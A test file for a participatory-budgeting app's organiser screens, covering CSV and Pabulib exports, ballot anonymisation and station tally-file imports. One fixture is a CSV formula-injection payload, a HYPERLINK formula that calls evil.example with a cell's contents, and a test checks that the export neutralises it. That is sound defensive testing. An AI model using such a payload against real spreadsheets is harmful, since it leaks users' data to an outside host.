import { cleanup, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import Papa from 'papaparse';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { DEMO_EVENT } from '../../src/core/demo-event.ts';
import { parsePabulib } from '../../src/core/pabulib/index.ts';
import type { EventDefinition } from '../../src/core/schema.ts';
import { BOOST_CHOICES, BOOST_EVENT, ballotsFor } from '../fixtures/sections/events.ts';
import { writeTallyFile } from '../../src/core/tally-file/index.ts';
import {
  approvalBallots,
  bloc,
  expectedTally,
  fakeServer,
  openScreen,
  renderOrganiser,
  signIn,
} from './organiser-fake-api.ts';

afterEach(cleanup);

interface Saved {
  name: string;
  text: string;
  type: string;
}

const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';

/** A bid proposed by someone who knows spreadsheets: its title and group are formulas. */
const HOSTILE_EVENT: EventDefinition = {
  ...DEMO_EVENT,
  id: 'hostile-day',
  bids: DEMO_EVENT.bids.map((b) =>
    b.id === 'cooking-club' ? { ...b, title: HOSTILE_TITLE, group: '@SUM(A1:A9)' } : b,
  ),
};

async function openWithSaves(event: EventDefinition, ballots = approvalBallots(event, 60, 5)) {
  const user = userEvent.setup();
  const server = fakeServer(event, ballots);
  const saved: Saved[] = [];
  await renderOrganiser({
    api: server.api,
    saveFile: (name, text, type) => saved.push({ name, text, type }),
  });
  await signIn(user, event.name);
  await openScreen(user, 'Exports');
  await screen.findByRole('button', { name: 'Download Results (CSV)' });
  return { user, server, saved, ballots };
}

const cells = (csv: string) => Papa.parse<string[]>(csv.trim()).data.flat();

describe('organiser exports', () => {
  it('downloads the results CSV with a formula in a bid title neutralised', async () => {
    const { user, saved } = await openWithSaves(HOSTILE_EVENT);
    await user.click(screen.getByRole('button', { name: 'Download Results (CSV)' }));
    expect(await screen.findByText(/^Saved .*-results-greedy\.csv\.$/)).toBeInTheDocument();

    expect(saved).toHaveLength(1);
    const [file] = saved;
    expect(file?.type).toMatch(/^text\/csv/);
    const all = cells(file?.text ?? '');
    expect(all.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(all).toContain(`'${HOSTILE_TITLE}`);
  });

  it('downloads anonymised ballots: one row each, no ids or stations, the same votes', async () => {
    const { user, saved, ballots } = await openWithSaves(DEMO_EVENT);
    await user.click(screen.getByRole('button', { name: 'Download Anonymised ballots (CSV)' }));
    await screen.findByText(/^Saved .*-ballots\.csv\.$/);

    const text = saved[0]?.text ?? '';
    for (const b of ballots.slice(0, 5)) expect(text).not.toContain(b.id);
    expect(text).not.toContain('station-');
    const [header = [], ...rows] = Papa.parse<string[]>(text.trim()).data;
    expect(rows).toHaveLength(ballots.length);
    // Column sums are the approvals per bid: the same support the tally counted.
    const expected = expectedTally(DEMO_EVENT, ballots, 'greedy').support;
    for (const { bidId, support } of expected) {
      const col = header.indexOf(bidId);
      expect(col).toBeGreaterThanOrEqual(0);
      expect(rows.reduce((sum, r) => sum + Number(r[col]), 0)).toBe(support);
    }
  });

  it('downloads a Pabulib file that reads back to the same ballots and winners', async () => {
    const { user, saved, ballots } = await openWithSaves(DEMO_EVENT);
    await user.click(screen.getByRole('radio', { name: /Method of Equal Shares/ }));
    await user.click(screen.getByRole('button', { name: 'Download Pabulib file (.pb)' }));
    await screen.findByText(/^Saved .*\.pb\.$/);

    const parsed = parsePabulib(saved[0]?.text ?? '');
    if (!parsed.ok) throw new Error(parsed.error.code);
    expect(parsed.value.ballots).toHaveLength(ballots.length);
    // The winners written are those of the rule on screen, not always the event's own.
    const mes = expectedTally(DEMO_EVENT, ballots, 'equal-shares');
    expect(parsed.value.selected?.slice().sort()).toEqual(mes.selected.slice().sort());
  });

  it('downloads one Pabulib file per pot and part for a ballot with sections', async () => {
    const ballots = ballotsFor(BOOST_EVENT, BOOST_CHOICES);
    const { user, saved } = await openWithSaves(BOOST_EVENT, ballots);
    await user.click(screen.getByRole('button', { name: 'Download Pabulib file (.pb)' }));
    await screen.findByText(/^Saved .*\.pb\.$/);

    expect(saved.length).toBeGreaterThan(1);
    for (const file of saved) {
      expect(file.name).toMatch(/-pot-.+-section-.+\.pb$/);
      const parsed = parsePabulib(file.text);
      if (!parsed.ok) throw new Error(`${file.name}: ${parsed.error.code}`);
      // Every ballot is in every file: each counts in every pot, even when it chose nothing there.
      expect(parsed.value.ballots).toHaveLength(ballots.length);
    }
    expect(new Set(saved.map((f) => f.name)).size).toBe(saved.length);
  });

  it('prints the results with the browser’s print dialog', async () => {
    const { user } = await openWithSaves(DEMO_EVENT);
    await openScreen(user, 'Results');
    const print = vi.spyOn(window, 'print').mockImplementation(() => undefined);
    await user.click(screen.getByRole('button', { name: 'Print the results' }));
    expect(print).toHaveBeenCalledOnce();
    print.mockRestore();
  });

  it('downloads the central tally file exactly as the server holds it', async () => {
    const { user, saved, server } = await openWithSaves(DEMO_EVENT);
    await user.click(screen.getByRole('button', { name: 'Download Central tally file' }));
    await screen.findByText(/^Saved .*-central\.ddtally\.$/);
    expect(saved[0]?.text).toBe(server.fileText());
  });
});

describe('organiser import of a station file', () => {
  const upload = async (user: ReturnType<typeof userEvent.setup>, name: string, text: string) => {
    await user.upload(
      screen.getByLabelText('Station tally file'),
      new File([text], name, { type: 'application/x-ndjson' }),
    );
    await user.click(screen.getByRole('button', { name: 'Import' }));
  };
  const openImport = async (
    event: EventDefinition,
    ballots?: ReturnType<typeof approvalBallots>,
  ) => {
    const opened = await openWithSaves(event, ballots);
    await openScreen(opened.user, 'Import a station file', 'Import a station’s tally file');
    return opened;
  };

  it('adds new ballots, then reports them as already there on a second import', async () => {
    const onServer = approvalBallots(DEMO_EVENT, 10, 21);
    const { user, server } = await openImport(DEMO_EVENT, onServer);
    // The station's file holds 3 ballots the server has and 4 it has not.
    const stationFile = writeTallyFile(DEMO_EVENT, [
      ...onServer.slice(0, 3),
      ...bloc(DEMO_EVENT, 'offline', 4, ['chair-yoga']),
    ]);

    await upload(user, 'library.ddtally', stationFile);
    expect(
      await screen.findByText(
        'Imported library.ddtally: 4 ballots added, 3 ballots were already there, 0 ballots refused.',
      ),
    ).toBeInTheDocument();
    // The results are re-read from the grown central file.
    await openScreen(user, 'Results');
    expect(await screen.findByText('14 ballots counted.')).toBeInTheDocument();
    await openScreen(user, 'Import a station file', 'Import a station’s tally file');

    const before = server.fileText();
    await upload(user, 'library.ddtally', stationFile);
    expect(
      await screen.findByText(
        'Imported library.ddtally: 0 ballots added, 7 ballots were already there, 0 ballots refused.',
      ),
    ).toBeInTheDocument();
    expect(server.fileText()).toBe(before);
  });

  it('shows the server’s reason when it refuses another event’s file, and changes nothing', async () => {
    const { user, server } = await openImport(DEMO_EVENT);
    const before = server.fileText();
    const other = writeTallyFile(HOSTILE_EVENT, bloc(HOSTILE_EVENT, 'x', 2, ['chair-yoga']));
    await upload(user, 'wrong.jsonl', other);
    expect(await screen.findByRole('alert')).toHaveTextContent(
      `wrong.jsonl was not imported. This file is from another event: ${HOSTILE_EVENT.name}.`,
    );
    expect(server.fileText()).toBe(before);
  });

  it('refuses a tampered station file with the line that failed', async () => {
    const { user, server } = await openImport(DEMO_EVENT);
    const before = server.fileText();
    const lines = writeTallyFile(DEMO_EVENT, bloc(DEMO_EVENT, 'y', 3, ['chair-yoga'])).split('\n');
    lines[2] = (lines[2] ?? '').replace('chair-yoga', 'gala-day');
    await upload(user, 'edited.jsonl', lines.join('\n'));
    expect(await screen.findByRole('alert')).toHaveTextContent(
      /edited\.jsonl was not imported\..*Line 3/,
    );
    expect(server.fileText()).toBe(before);
  });
});
